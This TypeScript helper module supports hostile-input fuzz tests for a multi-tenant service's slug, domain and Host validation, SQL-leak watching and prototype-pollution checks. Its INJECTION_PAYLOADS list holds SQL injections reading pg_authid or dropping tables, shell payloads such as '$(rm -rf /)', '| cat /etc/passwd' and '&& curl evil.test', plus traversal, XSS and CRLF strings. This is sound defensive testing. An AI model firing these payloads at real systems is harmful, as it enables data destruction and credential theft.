import { STATUS_CODES } from 'node:http'
import fc from 'fast-check'
import type { Knex } from 'knex'
import { CONTRACT_CODES } from './contract.js'

/**
 * Shared pieces of the hostile-input fuzz tests (test/fuzz-*.test.ts): the contract's error
 * codes, spec oracles for hosts, slugs and domains written from the README's contract (not from src/), hostile
 * string generators, a SQL text watch and a tally of the cases run (a raw HTTP client is in raw-http.ts).
 */

/** What the tests read of a response (light-my-request's Response has it). */
export interface HttpResult {
  statusCode: number
  body: string
  headers: Record<string, unknown>
}

export type Expected = readonly [status: number, code: string]

/** Shown in failure messages: JSON-escaped (NUL, control characters visible) and cut short. */
export function show (value: unknown, max = 160): string {
  const cut = typeof value === 'string' && value.length > max ? `${value.slice(0, max)}…(${value.length} chars)` : value
  const json = JSON.stringify(cut) ?? String(cut)
  // Non-ASCII escaped too, so a look-alike (KELVIN SIGN for K) is told from the letter.
  const text = json.replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)
  return text.length > max ? `${text.slice(0, max)}…(${text.length} chars)` : text
}

/**
 * Throws unless `res` is one of the contract's errors: a JSON body of exactly
 * `{ statusCode, code, error, message }`, consistent with the status line, its code one of the
 * contract's with that code's status, and (when `expected` is given) one of those pairs.
 */
export function assertContractError (res: HttpResult, context: string, expected?: readonly Expected[]): { status: number, code: string } {
  const fail = (why: string): never => {
    throw new Error(`${why}\n  input: ${context}\n  got: ${res.statusCode} ${show(res.body, 300)}`)
  }
  if (res.statusCode < 400) fail('expected an error response')
  if (res.statusCode >= 500) fail('a hostile input must never cause a 5xx')
  if (!String(res.headers['content-type'] ?? '').startsWith('application/json')) fail('error is not JSON')
  let body: Record<string, unknown>
  try {
    body = JSON.parse(res.body) as Record<string, unknown>
  } catch {
    return fail('error body does not parse as JSON')
  }
  if (body === null || typeof body !== 'object' || Array.isArray(body)) fail('error body is not an object')
  const keys = Object.keys(body).sort().join(',')
  if (keys !== 'code,error,message,statusCode') fail(`error body has keys ${keys}, not { statusCode, code, error, message }`)
  const code = String(body.code)
  if (body.statusCode !== res.statusCode) fail('body statusCode differs from the status line')
  if (body.error !== STATUS_CODES[res.statusCode]) fail('body error is not the status text')
  if (typeof body.message !== 'string' || body.message.length === 0) fail('body message is empty')
  if (CONTRACT_CODES[code] !== res.statusCode) fail(`code ${code} is not the contract's code for ${res.statusCode}`)
  if (expected !== undefined && !expected.some(([status, c]) => status === res.statusCode && c === code)) {
    fail(`expected one of ${expected.map(([s, c]) => `${s} ${c}`).join(' | ')}`)
  }
  return { status: res.statusCode, code }
}

// ---------------------------------------------------------------------------------------------
// Spec oracles, from the README's contract: "Slugs: ^[a-z][a-z0-9-]{1,39}$. Domains: a valid DNS host name,
// stored lowercase, no port."; "Host missing or malformed → 400; not in the catalog → 404".

export const SLUG_RE = /^[a-z][a-z0-9-]{1,39}$/

/** RFC 1123 host name (lowercase): labels of 1-63 letters, digits, inner hyphens; at most 253 characters. */
export function isDnsName (name: string): boolean {
  if (name.length === 0 || name.length > 253) return false
  const labels = name.split('.')
  // An all-numeric top label would make an IPv4 literal (or 1.2.3.4.5) pass as a name.
  if (/^[0-9]+$/.test(labels.at(-1) ?? '')) return false
  return labels.every((label) => /^[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?$/.test(label))
}

/**
 * What a Host header names: the lowercased DNS name (port and one trailing dot dropped), or null
 * when it is malformed. Only printable ASCII can be a host: anything else is malformed before
 * any case folding (so no Unicode character can fold into an ASCII tenant host).
 */
export function expectedHost (header: string): string | null {
  const match = /^([A-Za-z0-9.-]+)(?::([0-9]+))?$/.exec(header)
  if (match === null) return null
  const [, name = '', port] = match
  if (port !== undefined && (port.length > 5 || Number(port) > 65535)) return null
  const lower = name.toLowerCase()
  const host = lower.endsWith('.') ? lower.slice(0, -1) : lower
  return isDnsName(host) ? host : null
}

/** Unpaired UTF-16 surrogates (they cannot be encoded as UTF-8 text). */
export const LONE_SURROGATE = /[\uD800-\uDFFF]/u

/** Characters of SQL syntax an attacker would use; an input holding one must never be SQL text. */
export const SQL_METACHARACTER = /['";\\%_`$\0]|--|\/\*/

// ---------------------------------------------------------------------------------------------
// Hostile strings.

/* eslint-disable no-template-curly-in-string -- shell payloads, not templates */
export const INJECTION_PAYLOADS = [
  "' OR '1'='1", "'; DROP TABLE tenants; --", '"; DROP DATABASE postgres; --', "x' UNION SELECT rolpassword FROM pg_authid --",
  '1; SELECT pg_sleep(10)', '$$; DROP ROLE postgres; $$', "\\'; --", "%'--", '_%_%', "E'\\x00'", "') OR 1=1 --", '/**/OR/**/1=1',
  "'||(SELECT current_user)||'", "admin'--", '"; COPY tenants TO PROGRAM \'id\'; --', "'; ALTER ROLE postgres PASSWORD 'x'; --",
  '$(id)', '`id`', '$(rm -rf /)', '; rm -rf / ;', '| cat /etc/passwd', '&& curl evil.test', '${IFS}id', '%00', '%2e%2e%2f', '../../etc/passwd',
  '..\\..\\windows', '{{7*7}}', '<script>alert(1)</script>', '\u0000', 'a\u0000b', '\r\nSet-Cookie: x=1', '%0d%0a', '\u202e', '\ufeff',
  '__proto__', 'constructor', 'prototype', 'toString', 'A'.repeat(300)
]
/* eslint-enable no-template-curly-in-string */

const FRAGMENTS = ["'", '"', ';', '--', '/*', '*/', '\\', '%', '_', '`', '$(', ')', '$$', '\u0000', '\n', '\t', ' ', '|', '&', '>', '<', '*',
  '?', '#', '/', '..', ':', '@', '=', '+', ',', '~', '!', '^', '{', '}', '[', ']', '\u212a', '\u0130', 'é', '☃', '𝒜', 'ａ', '\u200b']

/**
 * Short strings built of SQL and shell metacharacters, known payloads, letters and arbitrary
 * Unicode (never an unpaired surrogate: those are tried separately where JSON can carry them).
 */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom(...INJECTION_PAYLOADS) },
  {
    weight: 5,
    arbitrary: fc.array(fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...FRAGMENTS) },
      { weight: 3, arbitrary: fc.stringMatching(/^[a-z0-9-]{1,8}$/) },
      { weight: 1, arbitrary: fc.constantFrom(...INJECTION_PAYLOADS) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 4 }) }
    ), { minLength: 1, maxLength: 8 }).map((parts) => parts.join(''))
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 30 }) }
)

/**
 * Inserts `piece` into `base` at a position strictly inside it (so trimming cannot remove it),
 * between code points (never splitting a surrogate pair).
 */
export const insertInside = (base: string, piece: string, at: number): string => {
  const points = [...base]
  const i = points.length < 2 ? points.length : 1 + (at % (points.length - 1))
  return `${points.slice(0, i).join('')}${piece}${points.slice(i).join('')}`
}

export const validSlug: fc.Arbitrary<string> = fc.stringMatching(SLUG_RE)

/** Slugs the contract refuses (checked against SLUG_RE, so each one is invalid by construction). */
export const invalidSlug: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 3, arbitrary: fc.tuple(validSlug, hostileString, fc.nat()).map(([slug, bad, at]) => insertInside(slug, bad, at)) },
  { weight: 1, arbitrary: validSlug.map((slug) => slug.toUpperCase()) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('0', '9', '-', '_', ' '), validSlug).map(([head, slug]) => head + slug) },
  { weight: 1, arbitrary: fc.stringMatching(/^[a-z][a-z0-9-]{40,120}$/) },
  { weight: 1, arbitrary: fc.constantFrom('', 'a', '-', '--', 'a_b', 'ab.cd', 'ab cd', 'ab\u0000cd', 'ab%', 'a\u212a', '..', '.') }
).filter((slug) => !SLUG_RE.test(slug))

const LABEL = /^[a-z0-9]([a-z0-9-]{0,14}[a-z0-9])?$/
/** Ordinary DNS names (lowercase), some with `--`. */
export const dnsName: fc.Arbitrary<string> = fc.array(fc.stringMatching(LABEL), { minLength: 1, maxLength: 4 })
  .map((labels) => [...labels, 'test'].join('.'))

/**
 * Characters that can never be part of a DNS name, nor be trimmed away from inside one. KELVIN SIGN
 * (whose lowercase is ASCII k) is left to tests of its own: a server that wrongly accepts it
 * would store a domain, and a shared generator must never change what exists.
 */
const NOT_IN_NAMES = ["'", '"', ';', '\\', '%', '_', '`', '$', '(', ')', '\u0000', '\u0001', '\u001f', '\u007f', ' ', '\t', '\n', '|', '&', '<',
  '>', '*', '?', '#', '/', ':', '@', '=', '+', ',', '~', '!', '^', '{', '}', '[', ']', '\u0130', 'é', 'а', '☃', '𝒜', '\u200b', '\u00a0']

/** Domains the contract refuses: a name with at least one impossible character strictly inside it. */
export const invalidDomain: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.tuple(dnsName, fc.constantFrom(...NOT_IN_NAMES), fc.nat(), fc.option(hostileString))
      .map(([name, bad, at, more]) => insertInside(name, bad + (more ?? ''), at))
  },
  { weight: 1, arbitrary: fc.tuple(dnsName, fc.integer({ min: 0, max: 99999 })).map(([name, port]) => `${name}:${port}`) },
  { weight: 1, arbitrary: fc.oneof(fc.ipV4(), fc.ipV6(), fc.ipV6().map((ip) => `[${ip}]`)) },
  { weight: 1, arbitrary: fc.constantFrom('', '.', '..', 'a..b', '-a.test', 'a-.test', '.a.test', `${'a'.repeat(64)}.test`, `${'a.'.repeat(127)}test`, 'a.123', 'ab\u0000.test') }
)

export const uniqueSuffix = (): string => Math.random().toString(36).slice(2, 10)

// ---------------------------------------------------------------------------------------------
// SQL text watch.

interface QueryEvent { sql?: unknown }

/**
 * Records the SQL text (never the bindings) of every statement issued through the watched Knex
 * instances. `leaks` finds inputs that appear as SQL text: an input of 4+ characters holding a
 * SQL metacharacter that shows up in a statement issued while it was being handled, and that is
 * not part of Silo's own static SQL (the baseline recorded from benign requests, e.g. `"id"`).
 */
export class SqlWatch {
  readonly #texts: string[] = []
  readonly #watched = new WeakSet<object>()
  #baseline: string[] = []
  /** Inputs not checked because Silo's own SQL contains them (they would prove nothing). */
  inBaseline = 0
  /** Inputs checked. */
  checked = 0

  watch (db: Knex): void {
    if (this.#watched.has(db)) return
    this.#watched.add(db)
    db.on('query', (event: QueryEvent) => {
      if (typeof event.sql === 'string') this.#texts.push(event.sql)
    })
  }

  get mark (): number {
    return this.#texts.length
  }

  /** Statements seen so far are Silo's static SQL. */
  freezeBaseline (): void {
    this.#baseline = [...new Set(this.#texts)]
  }

  get statements (): number {
    return this.#texts.length
  }

  leaks (inputs: Iterable<string>, since: number): string[] {
    const texts = [...new Set(this.#texts.slice(since))]
    const found: string[] = []
    for (const input of inputs) {
      if (input.length < 4 || !SQL_METACHARACTER.test(input)) continue
      if (this.#baseline.some((text) => text.includes(input))) {
        this.inBaseline++
        continue
      }
      this.checked++
      if (texts.some((text) => text.includes(input))) found.push(input)
    }
    return found
  }

  /** Throws when `leaks` finds any. */
  assertNoLeak (inputs: Iterable<string>, since: number, context: string): void {
    const leaked = this.leaks(inputs, since)
    if (leaked.length > 0) throw new Error(`input reached SQL as text: ${leaked.map((x) => show(x)).join(', ')}\n  input: ${context}`)
  }
}

/** Every string inside a JSON-like value, keys included (iterative: values may be nested very deep). */
export function stringsIn (value: unknown): string[] {
  const out: string[] = []
  const stack: unknown[] = [value]
  while (stack.length > 0) {
    const item = stack.pop()
    if (typeof item === 'string') out.push(item)
    else if (Array.isArray(item)) for (const inner of item) stack.push(inner)
    else if (item !== null && typeof item === 'object') {
      for (const [key, inner] of Object.entries(item)) {
        out.push(key)
        stack.push(inner)
      }
    }
  }
  return out
}

// ---------------------------------------------------------------------------------------------
// Prototype pollution.

const PROTOTYPES: Array<[string, object]> = [['Object', Object.prototype], ['Array', Array.prototype], ['Function', Function.prototype], ['String', String.prototype]]
const prototypeKeys = (): string => PROTOTYPES.map(([name, proto]) => `${name}:${Reflect.ownKeys(proto).map(String).sort().join(',')}`).join(';')
const initialPrototypes = prototypeKeys()

/** Throws when any built-in prototype has gained or lost a property since this module loaded. */
export function assertPrototypesClean (context: string): void {
  const now = prototypeKeys()
  if (now !== initialPrototypes) throw new Error(`a built-in prototype was changed\n  input: ${context}`)
  const probe: Record<string, unknown> = {}
  for (const key of ['polluted', 'isAdmin', 'title', 'body', 'published']) {
    if (probe[key] !== undefined) throw new Error(`({}).${key} is defined: Object.prototype was polluted\n  input: ${context}`)
  }
}

// ---------------------------------------------------------------------------------------------
// Running properties and counting cases.

/** The subset of tap's Test the runner needs. */
export interface Reporter {
  comment: (message: string) => unknown
  pass: (message: string) => unknown
  fail: (message: string) => unknown
}

export interface PropertyOptions {
  numRuns: number
  /** Skip shrinking (for expensive cases). */
  endOnFailure?: boolean
}

/**
 * Runs fast-check properties with one seed per file (FUZZ_SEED replays a run), counts every case
 * executed, and reports a failure with fast-check's counterexample and seed.
 */
export class FuzzTally {
  readonly seed: number
  readonly #counts = new Map<string, number>()

  constructor () {
    const fromEnv = Number(process.env.FUZZ_SEED)
    this.seed = Number.isSafeInteger(fromEnv) && process.env.FUZZ_SEED !== '' ? fromEnv : Math.floor(Math.random() * 2 ** 31)
  }

  add (name: string, cases: number): void {
    this.#counts.set(name, (this.#counts.get(name) ?? 0) + cases)
  }

  get total (): number {
    let sum = 0
    for (const n of this.#counts.values()) sum += n
    return sum
  }

  summary (): string {
    return [...this.#counts].map(([name, n]) => `  ${n} ${name}`).join('\n')
  }

  async property<T> (t: Reporter, name: string, arbitrary: fc.Arbitrary<T>, predicate: (value: T) => Promise<void>, options: PropertyOptions): Promise<void> {
    let cases = 0
    const details = await fc.check(fc.asyncProperty(arbitrary, async (value) => {
      cases++
      await predicate(value)
    }), { numRuns: options.numRuns, seed: this.seed, endOnFailure: options.endOnFailure ?? false })
    this.add(name, cases)
    t.comment(`${name}: ${cases} cases`)
    if (details.failed) {
      const error = details.errorInstance instanceof Error ? details.errorInstance.message : String(details.errorInstance)
      const report = (fc.defaultReportMessage(details) ?? '').replace(/Counterexample: .{2000,}? Shrunk/s, 'Counterexample: (long, see the error) Shrunk')
      t.fail(`${name}: ${error}\n${report}\nreplay: FUZZ_SEED=${this.seed}`)
    } else {
      t.pass(`${name}: ${details.numRuns} cases passed`)
    }
  }
}
